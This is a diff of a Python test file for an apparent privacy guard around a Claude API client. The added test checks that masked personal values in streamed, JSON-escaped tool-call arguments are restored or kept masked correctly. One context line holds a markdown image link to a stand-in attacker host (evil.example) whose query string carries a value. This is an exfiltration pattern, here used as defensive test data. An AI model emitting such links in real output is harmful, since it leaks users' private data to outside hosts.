@@ -113,6 +113,23 @@ def test_a_link_over_two_blocks_carried_a_value_away(
     assert claude.text(MAIL, stream=stream) == f"see ![x](https://evil.example/?q={MARK}) and {MAIL} {MAIL}"
 
 
+@pytest.mark.parametrize("tool", ["find", "other"])
+def test_arguments_that_the_model_escaped_were_not_known_when_they_came_back(claude: Claude, tool: str) -> None:
+    claude.guard(in_memory(names="off", restore={"tools": {"other": "none"}}))
+    said = {"who": f"{MARK} café", "cc": "bob@exemple.fr", "note": "see \u2028 \U0001f600 / \t"}
+    text = json.dumps(said).replace("/", "\\/")
+    cuts = [text[at : at + 5] for at in range(0, len(text), 5)]
+    claude.provider.reply(
+        stream_of(begun({**TOOL, "name": tool}), *(piece("input_json_delta", cut) for cut in cuts), ended())
+    )
+    call = claude.final(MAIL).content[0].to_dict()
+    assert call["input"] == {**said, "who": f"{MAIL if tool == 'find' else MARK} café"}
+    turn = {"role": "assistant", "content": [call]}
+    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": "ok"}
+    _ = claude.text(messages=[{"role": "user", "content": MAIL}, turn, {"role": "user", "content": [result]}])
+    assert claude.provider.requests[-1].json["messages"][1]["content"][0]["input"] == said
+
+
 def test_events_and_deltas_that_nobody_knows_pass_unrestored(claude: Claude, policy: Any) -> None:
     claude.guard(policy)
     seen = [
